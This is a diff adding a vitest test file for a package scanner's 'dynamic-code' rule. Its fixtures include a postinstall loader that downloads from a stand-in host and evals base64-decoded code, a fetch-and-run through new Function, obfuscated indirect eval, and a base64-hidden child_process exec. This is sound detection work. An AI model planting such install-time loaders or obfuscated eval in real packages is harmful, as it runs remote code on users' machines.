@@ -1,0 +1,120 @@
+import { describe, expect, test } from 'vitest';
+import { manifest, scanFiles } from '../test/helpers/analyze.js';
+import { expectAtMostInfo, finding } from '../test/helpers/findings.js';
+
+const RULE = 'dynamic-code';
+
+describe('dynamic-code reports', () => {
+  test('eval of base64-decoded code is high and at least suspicious', () => {
+    const r = scanFiles({ 'index.js': "eval(Buffer.from('Y29uc29sZS5sb2coMSk=', 'base64').toString());" });
+    expect(r.of(RULE)).toEqual([finding('high', ['dynamic-code', 'dynamic-code:decoded'], { message: expect.stringContaining('eval') })]);
+    expect(r.verdict).toBe('suspicious');
+  });
+
+  test('a postinstall stage-2 loader (download, base64-decode, eval) is malicious', () => {
+    const r = scanFiles({
+      'package.json': manifest({ scripts: { postinstall: 'node i.js' } }),
+      'i.js': "const https = require('https');\nhttps.get('https://payload.invalid/stage2', (res) => {\n  let d = '';\n  res.on('data', (c) => (d += c));\n  res.on('end', () => eval(Buffer.from(d, 'base64').toString('utf8')));\n});",
+    });
+    expect(r.of(RULE)).toContainEqual(finding('high', ['dynamic-code:decoded'], { reach: 'install' }));
+    expect(r.verdict).toBe('malicious');
+    expect(r.score).toBeGreaterThanOrEqual(90);
+  });
+
+  test.each([
+    ["globalThis['ev' + 'al'] on atob", "const g = globalThis;\nconst k = 'ev' + 'al';\ng[k](atob('Y29uc29sZS5sb2coMSk='));"],
+    ['(0, eval) on String.fromCharCode', '(0, eval)(String.fromCharCode(99,111,110,115,111,108,101,46,108,111,103,40,49,41));'],
+    ['new Function on hex', "new Function(Buffer.from('636f6e736f6c652e6c6f67283129', 'hex').toString())();"],
+  ])('indirect eval through %s is resolved and high', (_label, code) => {
+    const r = scanFiles({ 'index.js': code });
+    expect(r.of(RULE)).toContainEqual(finding('high', ['dynamic-code:decoded']));
+    expect(r.verdict).not.toBe('clean');
+  });
+
+  test('fetching code and running it with new Function at postinstall is at least suspicious', () => {
+    const r = scanFiles({
+      'package.json': manifest({ scripts: { postinstall: 'node index.js' } }),
+      'index.js': "fetch('https://payload.invalid/p').then((r) => r.text()).then((code) => new Function('require', code)(require));",
+    });
+    expect(r.of(RULE)).toEqual([finding('medium', ['dynamic-code'], { message: expect.stringContaining('Function') })]);
+    expect(['suspicious', 'malicious']).toContain(r.verdict);
+  });
+
+  test('vm.runInThisContext on run-time input is medium', () => {
+    const r = scanFiles({ 'index.js': "const vm = require('vm');\nmodule.exports = (src) => vm.runInThisContext(src);" });
+    expect(r.of(RULE)).toEqual([finding('medium', ['dynamic-code'], { message: expect.stringContaining('vm.runInThisContext') })]);
+  });
+
+  test('setTimeout with a string argument is medium', () => {
+    const r = scanFiles({ 'index.js': "setTimeout('console.log(' + JSON.stringify(process.argv) + ')', 10);" });
+    expect(r.of(RULE)).toEqual([finding('medium', ['dynamic-code'], { message: expect.stringContaining('setTimeout') })]);
+  });
+
+  test('eval of a constant string is low', () => {
+    const r = scanFiles({ 'index.js': "eval('1 + 1');" });
+    expect(r.of(RULE)).toEqual([finding('low', ['dynamic-code'], { message: expect.stringContaining('constant') })]);
+  });
+
+  test('require() of a base64-hidden module name is medium obfuscation', () => {
+    const r = scanFiles({ 'index.js': "const cp = require(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\ncp.exec('id');" });
+    expect(r.of(RULE)).toEqual([finding('medium', ['dynamic-require', 'obfuscation'], { message: expect.stringContaining('child_process') })]);
+    // The hidden name still resolves for the other rules.
+    expect(r.of('process-exec')).toHaveLength(1);
+  });
+
+  // Known gap: when the decode happens in a variable first, the evaluator folds it and the rule calls it "constant code" (low).
+  test.fails('eval of a payload decoded into a variable first is high', () => {
+    const r = scanFiles({ 'index.js': "const payload = 'Y29uc29sZS5sb2coMSk=';\nconst code = Buffer.from(payload, 'base64').toString();\neval(code);" });
+    expect(r.of(RULE)).toContainEqual(finding('high', ['dynamic-code:decoded']));
+  });
+
+  // Known gap: `new Module()._compile(...)` has no canonical name (NewExpression receivers are not resolved).
+  test.fails('Module.prototype._compile through new Module() is dynamic code', () => {
+    const r = scanFiles({ 'index.js': "const Module = require('module');\nconst m = new Module('x');\nm._compile(require('fs').readFileSync(__dirname + '/data.bin', 'utf8'), 'x.js');" });
+    expect(r.of(RULE)).toContainEqual(finding('medium', ['dynamic-code']));
+  });
+
+  // Known gap: Babel parses import() as a call with an `Import` callee, which canonical() does not name, so the require() check never runs.
+  test.fails('import() of a base64-hidden module name is obfuscation like require()', () => {
+    const r = scanFiles({
+      'package.json': manifest({ main: 'index.mjs' }),
+      'index.mjs': "const m = await import(Buffer.from('Y2hpbGRfcHJvY2Vzcw==', 'base64').toString());\nm.exec('id');",
+    });
+    expect(r.of(RULE)).toContainEqual(finding('medium', ['obfuscation']));
+  });
+});
+
+describe('dynamic-code stays quiet', () => {
+  test.each([
+    "var g = Function('return this')();\nmodule.exports = g;",
+    "var root = typeof globalThis !== 'undefined' ? globalThis : new Function('return this')();\nmodule.exports = root;",
+    "module.exports = Function('\"use strict\"; return this')();",
+  ])('the global-object idiom: %s', (code) => {
+    const r = scanFiles({ 'index.js': code });
+    expect(r.of(RULE)).toEqual([]);
+    expect(r.verdict).toBe('clean');
+  });
+
+  test('a plugin loader requiring a computed path is info only', () => {
+    const r = scanFiles({ 'index.js': "const path = require('path');\nmodule.exports = (name) => require(path.join(process.cwd(), 'plugins', name));" });
+    expect(r.of(RULE)).toEqual([finding('info', ['dynamic-require'])]);
+    expect(r.verdict).toBe('clean');
+  });
+
+  test('require of a constant held in a variable', () => {
+    const r = scanFiles({ 'index.js': "const name = 'lodash';\nmodule.exports = require(name);\nmodule.exports.env = process.env.NODE_ENV;" });
+    expect(r.of(RULE)).toEqual([]);
+  });
+
+  test('timers with function callbacks', () => {
+    const r = scanFiles({ 'index.js': "setTimeout(() => console.log('tick'), 10);\nsetInterval(function () { process.stdout.write('.'); }, 1000).unref();" });
+    expect(r.of(RULE)).toEqual([]);
+    expect(r.verdict).toBe('clean');
+  });
+
+  test('lazy-loading locale files with a template import()', () => {
+    const r = scanFiles({ 'package.json': manifest({ main: 'index.mjs' }), 'index.mjs': 'export const load = (locale) => import(`./locales/${locale}.js`);' });
+    expectAtMostInfo(r.of(RULE));
+    expect(r.verdict).toBe('clean');
+  });
+});
